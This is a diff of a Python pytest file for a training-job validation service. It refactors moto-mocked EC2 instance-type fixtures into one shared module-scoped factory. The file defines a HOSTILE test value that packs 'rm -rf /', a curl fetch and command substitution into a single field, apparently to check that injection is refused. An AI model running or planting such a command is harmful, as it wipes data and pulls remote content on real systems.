@@ -4,6 +4,7 @@ EC2 DescribeInstanceTypes, and each refusal with its numbers."""
 from __future__ import annotations
 
 import copy
+from collections.abc import Callable, Iterator
 from typing import Any
 
 import boto3
@@ -27,10 +28,19 @@ IMAGE = "763104351884.dkr.ecr.us-west-2.amazonaws.com/pytorch-training:2.5.1-gpu
 HOSTILE = "x; rm -rf / $(curl evil) `id`"
 
 
-@pytest.fixture
-def p4d() -> builders.InstanceFacts:
-    with mock_aws():
-        return rules.instance_facts(boto3.client("ec2", "us-west-2"), "ml.p4d.24xlarge")
+@pytest.fixture(scope="module")
+def instance_facts() -> Iterator[Callable[[str], builders.InstanceFacts]]:
+    """``instance_facts("ml.p4d.24xlarge")``: the type's facts from moto's EC2 ``DescribeInstanceTypes`` (static data),
+    one moto EC2 for the whole module (starting one, with its AMIs, cost about half a second per test)."""
+    with pytest.MonkeyPatch.context() as patch, mock_aws():
+        patch.setenv("MOTO_EC2_LOAD_DEFAULT_AMIS", "false")
+        ec2 = boto3.client("ec2", "us-west-2", aws_access_key_id="x", aws_secret_access_key="x")
+        yield lambda instance_type: rules.instance_facts(ec2, instance_type)
+
+
+@pytest.fixture(scope="module")
+def p4d(instance_facts: Callable[[str], builders.InstanceFacts]) -> builders.InstanceFacts:
+    return instance_facts("ml.p4d.24xlarge")
 
 
 def ctx(facts: builders.InstanceFacts, **kw: Any) -> builders.BuildContext:
@@ -208,9 +218,11 @@ def test_more_nodes_than_the_groups_hold_is_422_with_numbers() -> None:
     assert none.value.details[0]["field"] == "instanceType"
 
 
-def test_unknown_instance_type_is_422_naming_instance_type() -> None:
-    with mock_aws(), pytest.raises(ValidationFailed) as exc:
-        rules.instance_facts(boto3.client("ec2", "us-west-2"), "ml.zz9.huge")
+def test_unknown_instance_type_is_422_naming_instance_type(
+    instance_facts: Callable[[str], builders.InstanceFacts],
+) -> None:
+    with pytest.raises(ValidationFailed) as exc:
+        instance_facts("ml.zz9.huge")
     assert exc.value.details[0]["field"] == "instanceType"
 
 
@@ -236,9 +248,8 @@ def test_training_operator_off_is_409_naming_the_feature_and_the_patch_body(stat
     assert "PATCH /clusters/demo/features" in exc.value.message
 
 
-def test_a_cpu_type_gets_no_gpu_resource() -> None:
-    with mock_aws():
-        facts = rules.instance_facts(boto3.client("ec2", "us-west-2"), "ml.m5.xlarge")
+def test_a_cpu_type_gets_no_gpu_resource(instance_facts: Callable[[str], builders.InstanceFacts]) -> None:
+    facts = instance_facts("ml.m5.xlarge")
     assert facts.gpus == 0
     job = builders.build(req("pytorch", instanceType="ml.m5.xlarge"), ctx(facts)).job
     container = job["spec"]["replicaSpecs"][0]["template"]["spec"]["containers"][0]
